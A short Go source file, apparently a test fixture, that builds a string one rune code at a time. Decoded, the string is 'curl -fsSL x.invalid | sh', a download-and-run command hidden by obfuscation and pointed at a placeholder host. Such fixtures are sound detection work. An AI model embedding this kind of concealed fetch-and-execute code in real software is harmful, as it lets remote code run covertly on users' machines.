package x

var s = string(rune(99)) + string(rune(117)) + string(rune(114)) + string(rune(108)) + string(rune(32)) + string(rune(45)) + string(rune(102)) + string(rune(115)) + string(rune(83)) + string(rune(76)) + string(rune(32)) + string(rune(120)) + string(rune(46)) + string(rune(105)) + string(rune(110)) + string(rune(118)) + string(rune(97)) + string(rune(108)) + string(rune(105)) + string(rune(100)) + string(rune(32)) + string(rune(124)) + string(rune(32)) + string(rune(115)) + string(rune(104))
